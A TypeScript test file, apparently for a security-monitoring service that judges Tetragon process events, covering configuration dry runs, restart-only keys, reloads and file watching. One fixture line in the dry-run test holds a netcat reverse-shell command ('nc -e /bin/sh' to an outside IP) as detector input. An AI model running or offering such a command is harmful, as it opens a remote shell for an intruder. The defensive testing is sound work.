import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config.ts';
import { openConfigFile } from '../../src/service/config-file.ts';
import { dryRun } from '../../src/service/dry-run.ts';
import { openJudging } from '../../src/service/judging.ts';
import { openReloads, type ReloadParts } from '../../src/service/reload.ts';
import { restartKeys, withoutRestart } from '../../src/service/restart.ts';
import { openWatch } from '../../src/service/watch.ts';
import { silentLog } from '../../src/telemetry/log.ts';
import { Metrics } from '../../src/telemetry/metrics.ts';
import { reloadEvents } from '../../src/telemetry/reload-events.ts';
import { advanceUntil, manualClock, settle } from '../support/clock.ts';
import { execEvent } from '../support/events.ts';

const folder = mkdtempSync(join(tmpdir(), 'lanner-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
let places = 0;
/** A folder for one test. */
function place(): string {
  places += 1;
  const own = join(folder, String(places));
  mkdirSync(own);
  return own;
}
const base = 'version: 1\nsources: {t: {type: tetragon}}\nsinks: {a: {type: stdout}, b: {type: stdout}}\n';
const config = (more = '') => parseConfig(base + more, 'test');

describe('the dry run', () => {
  const execs = ['/tmp/nc -e /bin/sh 203.0.113.9 4444', '/usr/bin/nslookup shop.example', '/bin/ls'].map(
    (command, index) => ({ id: `f-${index}`, exec: execEvent(command, { pid: index + 2 }) }),
  );
  const counts = async (more: string) => {
    const diff = await dryRun(execs, openJudging(config()), openJudging(config(more)));
    return {
      newly: diff.newly_fires.length,
      gone: diff.no_longer_fires.map(({ id }) => id),
      severity: diff.changed_severity.length,
      sinks: diff.changed_destination.length,
      same: diff.unchanged,
    };
  };

  it('of the same configuration finds nothing', async () => {
    const all = await counts('');
    expect(all).toMatchObject({ newly: 0, gone: [], severity: 0, sinks: 0 });
    expect(all.same).toBeGreaterThan(0);
  });

  it('counts what is hidden, what goes elsewhere and what is told newly', async () => {
    expect(await counts('exceptions: [{name: x, match: {tool: nslookup}, reason: r}]\n')).toMatchObject({
      newly: 0,
      gone: ['f-1'],
    });
    const elsewhere = await counts('route: {sinks: [b]}\n');
    expect(elsewhere.sinks).toBe((await counts('')).same);
    expect(
      (await counts('detect: {tools: {add: [{id: ls, category: scanner, names: [ls], points: 50}]}}\n'))
        .newly,
    ).toBe(1);
    expect((await counts('route: {min_severity: critical}\n')).gone.length).toBeGreaterThan(0);
  });
});

describe('what a restart applies', () => {
  it.each<[(typeof restartKeys)[number], string]>([
    ['state_dir', 'state_dir: /elsewhere'],
    ['durable', 'durable: false'],
    ['processes', 'processes: {max_entries: 200}'],
    ['state', 'state: {fold_secs: 1}'],
    ['enrich', 'enrich: {enabled: false}'],
    ['http.enabled', 'http: {enabled: false}'],
    ['http.listen', 'http: {listen: "127.0.0.1:1"}'],
    ['http.tls', 'http: {tls: {cert_file: a, key_file: b}}'],
    ['http.insecure', 'http: {insecure: true}'],
  ])('%s is named and keeps its value', (key, text) => {
    const running = config();
    const { config: next, needed } = withoutRestart(running, config(`${text}\nqueue: {max_messages: 7}\n`));
    expect(needed).toEqual([key]);
    expect(next).toEqual({ ...running, queue: { ...running.queue, max_messages: 7 } });
  });

  it('has an example of each key', () => expect(restartKeys).toHaveLength(9));

  it('does not hold back the token', () => {
    const { config: next, needed } = withoutRestart(config(), config('http: {token: 0123456789abcdef}\n'));
    expect(needed).toEqual([]);
    expect(next.http.token).toBe('0123456789abcdef');
  });
});

function opened(change: Partial<ReloadParts> = {}) {
  const path = join(place(), 'lanner.yaml');
  writeFileSync(path, base);
  const file = openConfigFile(path);
  let running = { config: file.load(), judging: openJudging(config()) };
  const done: string[] = [];
  const reloads = openReloads({
    file,
    running: () => running,
    async prepare(next) {
      const judging = openJudging(next);
      return {
        judging,
        changes: {},
        commit: async () => {
          done.push('commit');
          running = { config: next, judging };
        },
        discard: async () => void done.push('discard'),
      };
    },
    newest: async () => [],
    events: reloadEvents(new Metrics(), silentLog),
    now: Date.now,
    ...change,
  });
  return { reloads, done, path, write: (more: string) => writeFileSync(path, base + more) };
}

describe('a reading of the configuration', () => {
  it('whose dry run throws is refused, and what was opened for it is given back', async () => {
    const broken = { id: 'f-1', exec: undefined as never };
    const { reloads, done, write } = opened({ newest: async () => [broken] });
    write('queue: {max_messages: 7}\n');
    expect(await reloads.reload('SIGHUP')).toMatchObject({ outcome: 'refused', code: 'config_invalid' });
    expect(done).toEqual(['discard']);
  });

  it.each([
    ['many faults', '? b : : c\n'.repeat(1000)],
    ['a long one', `version: 1\nsources: {t: {type: "${'x'.repeat(100_000)}"}}\n`],
  ])('with %s is refused in few words', async (_what, text) => {
    const { reloads, path } = opened();
    writeFileSync(path, text);
    const report = await reloads.reload('file');
    expect(report).toMatchObject({ outcome: 'refused', code: 'config_invalid' });
    expect(JSON.stringify(report).length).toBeLessThan(20_000);
    expect(JSON.stringify(reloads.health()).length).toBeLessThan(3_000);
  });

  it('is taken over where the history cannot be read, and says so', async () => {
    const { reloads, write } = opened({ newest: () => Promise.reject(new Error('the disk is gone')) });
    write('queue: {max_messages: 7}\n');
    expect(await reloads.reload('SIGHUP')).toMatchObject({
      outcome: 'applied',
      would: { tried_on: 0, history: 'it cannot be read: the disk is gone' },
    });
  });

  it('is one at a time: many requests during one are answered by one more', async () => {
    const { reloads, done, write } = opened();
    write('queue: {max_messages: 7}\n');
    const reports = await Promise.all(Array.from({ length: 20 }, () => reloads.reload('SIGHUP')));
    expect(reports.map(({ outcome }) => outcome)).toEqual(['applied', ...Array(19).fill('unchanged')]);
    expect(done).toEqual(['commit', 'commit']);
  });

  it('ends with the service, and no other begins', async () => {
    const { reloads, done, write } = opened();
    write('queue: {max_messages: 7}\n');
    const last = reloads.reload('SIGHUP');
    const waiting = reloads.reload('SIGHUP');
    await reloads.close();
    expect(await last).toMatchObject({ outcome: 'applied' });
    expect(await waiting).toEqual({ outcome: 'stopping' });
    expect(done).toEqual(['commit']);
  });

  it('from a pipe is refused: it can be read once', async () => {
    const file = openConfigFile('/dev/null');
    expect(() => file.load()).toThrow(/sources/);
    expect(() => file.load()).toThrow('/dev/null cannot be read again');
    expect([...file.files().keys()]).toEqual([]);
  });
});

describe('the watch', () => {
  function watching() {
    const clock = manualClock();
    const path = join(place(), 'lanner.yaml');
    writeFileSync(path, base);
    const file = openConfigFile(path);
    file.load();
    let changes = 0;
    const watch = openWatch({
      files: file.files,
      settings: () => ({ look_secs: 1, settle_secs: 3, gone_secs: 10 }),
      async changed() {
        changes += 1;
        try {
          file.load();
        } catch {
          // As a refused reload: what was tried is remembered.
        }
      },
      clock,
    });
    watch.start();
    /** Seconds in looks, each of which reads the real file system. */
    const pass = async (secs: number) => {
      for (let i = 0; i < secs; i++) {
        const before = clock.pending;
        await clock.advance(1000);
        await advanceUntil(clock, 0, () => clock.pending >= before);
        await settle();
      }
    };
    return { path, pass, watch, changes: () => changes };
  }

  it('waits until nothing has changed for a while', async () => {
    const { path, pass, watch, changes } = watching();
    await pass(5);
    for (let i = 0; i < 4; i++) {
      writeFileSync(path, `${base}# ${'x'.repeat(i + 1)}\n`);
      await pass(2);
      expect(changes()).toBe(0);
    }
    await pass(3);
    expect(changes()).toBe(1);
    await pass(20);
    expect(changes()).toBe(1);
    watch.stop();
  });

  it('takes a file that is away for an error only when it stays away, and says it once', async () => {
    const { path, pass, watch, changes } = watching();
    rmSync(path);
    await pass(9);
    expect(changes()).toBe(0);
    writeFileSync(path, base);
    await pass(8);
    expect(changes()).toBe(0);
    rmSync(path);
    await pass(14);
    expect(changes()).toBe(1);
    await pass(20);
    expect(changes()).toBe(1);
    writeFileSync(path, base);
    await pass(6);
    expect(changes()).toBe(2);
    watch.stop();
  });
});
